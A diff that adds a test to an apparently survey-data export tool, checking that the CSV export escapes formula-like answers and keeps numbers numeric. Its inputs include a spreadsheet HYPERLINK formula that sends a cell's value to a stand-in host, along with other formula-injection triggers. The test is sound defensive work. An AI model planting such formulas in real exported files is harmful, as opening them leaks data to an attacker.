@@ -99,6 +99,21 @@ def test_microdata_never_contains_identifying_values(client, session, computed):
     assert "i01__missing" in header  # "don't know" reasons are kept apart
 
 
+def test_csv_keeps_formula_looking_answers_as_text_and_numbers_as_numbers(client, session, computed):
+    world, scheme_id, _ = computed
+    typed = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1)", "\tcmd", "'quoted"]
+    responses = session.scalars(select(Response).where(Response.id.in_(world.complete_ids)).order_by(Response.id)).all()[:len(typed)]
+    for response, text in zip(responses, typed, strict=True):
+        response.answers = {**response.answers, "suggestion": text, "income": -1500.5}
+    session.commit()
+    frame = _read("csv", _download(client, world, scheme=scheme_id, format="csv").data)[0].set_index("pid")
+    for response, text in zip(responses, typed, strict=True):
+        row = frame.loc[pseudonym("test-secret-key", world.project_id, response.id)]
+        assert row["suggestion"] == "'" + text and row["suggestion"].removeprefix("'") == text
+        assert row["income"] == -1500.5
+    assert pd.api.types.is_float_dtype(frame["income"]) and pd.api.types.is_float_dtype(frame["weight"])
+
+
 def test_pseudonymous_ids_are_stable_and_unlinkable(client, computed):
     world, scheme_id, _ = computed
     first = _read("csv", _download(client, world, scheme=scheme_id, format="csv").data)[0]["pid"].tolist()
